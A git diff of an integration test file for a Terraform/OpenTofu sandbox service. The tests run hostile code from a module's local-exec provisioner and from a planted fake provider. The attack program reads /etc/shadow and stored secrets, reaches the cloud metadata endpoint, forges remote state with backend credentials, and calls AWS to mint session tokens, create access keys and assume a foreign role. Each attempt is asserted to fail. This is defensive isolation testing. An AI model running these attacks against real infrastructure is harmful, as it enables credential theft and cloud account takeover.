@@ -1,114 +1,137 @@
-"""A module that attacks from within an apply, through the whole server: each attempt fails, and the log has it."""
+"""A module that attacks from within an apply, and a provider that attacks from within plan and apply.
+
+Both through the whole server: each attempt fails, and the log has it.
+"""
 
 from __future__ import annotations
 
+import shutil
+from collections.abc import Iterator
+from typing import Any
 from urllib.parse import urlsplit
 
 import pytest
 
-from tests.integration.runs.world import World
+from tests.integration.runs.attacks import HELD, PROGRAM
+from tests.integration.runs.world import ENGINE, World
 
 pytestmark = pytest.mark.integration
 
-ATTACKS = """
-variable "data" { type = string }
-variable "server" { type = number }
+MODULE = f"""
+variable "data" {{ type = string }}
+variable "server" {{ type = number }}
 
-resource "terraform_data" "attacks" {
-  provisioner "local-exec" {
+resource "terraform_data" "attacks" {{
+  provisioner "local-exec" {{
     command = <<-EOT
-      exec python3 - "${var.data}" "${var.server}" <<'END'
-      import base64, os, pathlib, socket, subprocess, sys, urllib.error, urllib.request
-
-      data, server = pathlib.Path(sys.argv[1]), int(sys.argv[2])
-      run = pathlib.Path.cwd().parent
-
-      def tried(name, attack):
-          try:
-              said = attack()
-          except Exception as error:
-              print("he" + "ld", name, type(error).__name__, error, flush=True)
-          else:
-              print("bro" + "ken", name, said, flush=True)
-
-      def state(lock):
-          query = "" if lock is None else "?ID=" + lock
-          body = b'{"version": 4, "serial": 99, "lineage": "forged", "outputs": {}, "resources": []}'
-          keys = ":".join(os.environ["TF_HTTP_" + each] for each in ("USERNAME", "PASSWORD"))
-          headers = {"Authorization": "Basic " + base64.b64encode(keys.encode()).decode()}
-          return urllib.request.urlopen(
-              urllib.request.Request(os.environ["TF_HTTP_ADDRESS"] + query, body, headers), timeout=20
-          ).status
-
-      def aws(*words):
-          done = subprocess.run(["aws", *words], capture_output=True, text=True)
-          if done.returncode:
-              raise OSError(done.stderr.strip().replace("\\n", " "))
-          return done.stdout
-
-      def connected(*address):
-          socket.create_connection(address, 5).close()
-
-      for name in ("plan/tfplan", "module.json", "attempt.json"):
+      exec python3 - "${{var.data}}" "${{var.server}}" <<'END'
+      {PROGRAM.replace(chr(10), chr(10) + "      ")}
+      for name in ("plan/tfplan",):
           tried("read " + name, lambda: (run / name).read_text())
-      for name in ("plan/tfplan", "saved/tfplan"):
           tried("forge " + name, lambda: (run / name).write_text("forged"))
-      for name in ("module.json", "attempt.json"):  # beside the mounts may be memory of the sandbox's own
-          try:
-              (run / name).write_text("forged")
-          except OSError:
-              pass
-      tried("list runs", lambda: [each for each in os.listdir(run.parent) if each != run.name] or 1 / 0)
-      tried("replace module", lambda: os.rename(run / "module", run / "other"))
-      for name in ("key", "leastway.db", "owner-token"):
-          tried("data " + name, lambda: (data / name).read_bytes())
-      tried("control", lambda: socket.socket(socket.AF_UNIX).connect(str(run.parent / "control" / "socket")))
-      tried("shadow", lambda: pathlib.Path("/etc/shadow").read_text())
-      tried("server", lambda: connected("127.0.0.1", server))
-      tried("metadata", lambda: connected("169.254.169.254", 80))
-      tried("host", lambda: connected("192.0.2.1", 443))
-      tried("name", lambda: socket.getaddrinfo("example.org", 443))
-      tried("state without lock", lambda: state(None))
-      tried("state with another lock", lambda: state("00000000-0000-0000-0000-000000000000"))
-      tried("session token", lambda: aws("sts", "get-session-token"))
-      tried("access key", lambda: aws("iam", "create-access-key", "--user-name", "platform"))
-      role = "arn:aws:iam::444455556666:role/of-another"
-      tried("role", lambda: aws("sts", "assume-role", "--role-arn", role, "--role-session-name", "stolen"))
       END
     EOT
+  }}
+}}
+
+output "end" {{ value = "the module's own" }}
+"""
+PROVIDER = f"""#!/usr/bin/python3
+import os, pathlib, subprocess, sys
+
+ATTACKS = {PROGRAM!r}
+MORE = r'''
+tried("operator's folder", lambda: pathlib.Path(sys.argv[3]).write_text("mine"))
+left = sorted(pathlib.Path.cwd().glob("beats-*"))
+if left:  # of the process that the plan left behind
+    before = [each.stat().st_size for each in left]
+    subprocess.run(["sleep", "0.5"])
+    tried("process of the plan", lambda: [each.stat().st_size for each in left] != before or 1 / 0)
+'''
+BEAT = 'while :; do echo beat >> "$0"; sleep 0.05; done'
+
+if len(sys.argv) == 1:  # as Terraform starts it
+    phase = pathlib.Path(f"/proc/{{os.getppid()}}/cmdline").read_bytes().split(b"\\0")[1].decode()
+    told = pathlib.Path.cwd() / f"attacked-{{phase}}.txt"
+    if phase in ("plan", "apply") and not told.exists():
+        with told.open("w") as out:
+            command = [sys.executable, "-c", ATTACKS + MORE, "@DATA@", "@PORT@", os.path.realpath(__file__)]
+            subprocess.run(command, stdout=out, stderr=out, stdin=subprocess.DEVNULL)
+        quiet = {{"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}}
+        subprocess.Popen(["/bin/sh", "-c", BEAT, f"beats-{{phase}}"], start_new_session=True, **quiet)
+os.execv("@REAL@", ["@REAL@", *sys.argv[1:]])
+"""
+WITH_PROVIDER = """
+terraform {
+  required_providers {
+    hostile = { source = "example/hostile" }
   }
 }
-
+resource "time_static" "of" { provider = hostile }
+resource "terraform_data" "told" {
+  input = time_static.of.unix
+  provisioner "local-exec" { command = "cat attacked-plan.txt attacked-apply.txt" }
+}
 output "end" { value = "the module's own" }
 """
-HELD = [
-    *(f"read {name}" for name in ("plan/tfplan", "module.json", "attempt.json")),
-    *("forge plan/tfplan", "forge saved/tfplan"),
-    "list runs",
-    "replace module",
-    *("data key", "data leastway.db", "data owner-token"),
-    *("control", "shadow", "server", "metadata", "host", "name"),
-    *("state without lock", "state with another lock"),
-    *("session token", "access key", "role"),
-]
 
 
-def test_a_module_attacks_from_within_its_apply(world: World) -> None:
-    script = ATTACKS.replace("${", "$\\{")
-    port = urlsplit(world.server.url).port
-    variables = {"data": str(world.folder / "s"), "server": port}
-    run = world.start(world.define("attacks", script=script, variables=variables))
+def _variables(world: World) -> dict[str, Any]:
+    return {"data": str(world.folder / "s"), "server": urlsplit(world.server.url).port}
+
+
+def _check(world: World, run: str, held: tuple[str, ...]) -> list[str]:
+    """Check that all attempts failed, that the log has those that the gateway refused, and return what was said."""
     ended = world.wait(run, seconds=240)
     log = [line.partition("(local-exec): ")[2] for line in world.log(run)]
     assert [line for line in log if line.startswith("broken")] == []
-    missing = [one for one in HELD if not any(line.startswith(f"held {one} ") for line in log)]
+    missing = [one for one in held if not any(line.startswith(f"held {one} ") for line in log)]
     assert missing == [], world.log(run)
     assert ended["status"] == "succeeded", ended
-    assert world.active()["attacks"]["resource"] == {"end": "the module's own"}
-    refused = {one["operation"] for one in world.calls(run) if one["decision"] == "refused"}
-    assert {"GetSessionToken", "CreateAccessKey", "AssumeRole"} <= refused, log
     said = "\n".join(world.log(run))
     for operation in ("sts GetSessionToken", "iam CreateAccessKey", "sts AssumeRole"):
         assert f"the gateway refused {operation} at " in said
+    return log
+
+
+def test_a_module_attacks_from_within_its_apply(world: World) -> None:
+    script = MODULE.replace("${", "$\\{")
+    run = world.start(world.define("attacks", script=script, variables=_variables(world)))
+    log = _check(world, run, (*HELD, "read plan/tfplan", "forge plan/tfplan"))
+    assert world.active()["attacks"]["resource"] == {"end": "the module's own"}
+    refused = {one["operation"] for one in world.calls(run) if one["decision"] == "refused"}
+    assert {"GetSessionToken", "CreateAccessKey", "AssumeRole"} <= refused, log
     planned = world.done(world.start("s3#attacks", "plan"))
     assert planned["plan"]["counts"] == {}, "the state is the one that Terraform wrote"
+
+
+@pytest.fixture
+def hostile(world: World) -> Iterator[None]:
+    """Put a provider into the operator's mirror that attacks, and then works as hashicorp/time does."""
+    mirror = world.folder / "tools" / "providers"
+    registry = "registry.opentofu.org" if ENGINE == "tofu" else "registry.terraform.io"
+    real = next(mirror.glob(f"{registry}/hashicorp/time/*/*/terraform-provider-time*"), None)
+    if real is None:
+        pytest.skip("LEASTWAY_TERRAFORM_ASSETS names no mirror with hashicorp/time: make terraform-assets")
+    place = mirror / registry / "example"
+    given = {"@REAL@": str(real), "@DATA@": str(world.folder / "s"), "@PORT@": str(urlsplit(world.server.url).port)}
+    text = PROVIDER
+    for name, value in given.items():
+        text = text.replace(name, value)
+    made = place / "hostile" / "1.0.0" / real.parent.name / "terraform-provider-hostile_v1.0.0"
+    made.parent.mkdir(parents=True)
+    made.write_text(text)
+    made.chmod(0o755)
+    yield
+    shutil.rmtree(place)
+
+
+@pytest.mark.usefixtures("hostile")
+def test_a_provider_attacks_from_within_plan_and_apply(world: World) -> None:
+    run = world.start(world.define("provider", script=WITH_PROVIDER))
+    log = _check(world, run, (*HELD, "operator's folder", "process of the plan"))
+    assert sum(line.startswith("held session token ") for line in log) == 2, "once in each phase"
+    refused = {(one["phase"], one["operation"]) for one in world.calls(run) if one["decision"] == "refused"}
+    every = ("GetSessionToken", "CreateAccessKey", "AssumeRole")
+    assert {(phase, each) for phase in ("plan", "apply") for each in every} <= refused
+    assert world.active()["provider"]["resource"] == {"end": "the module's own"}
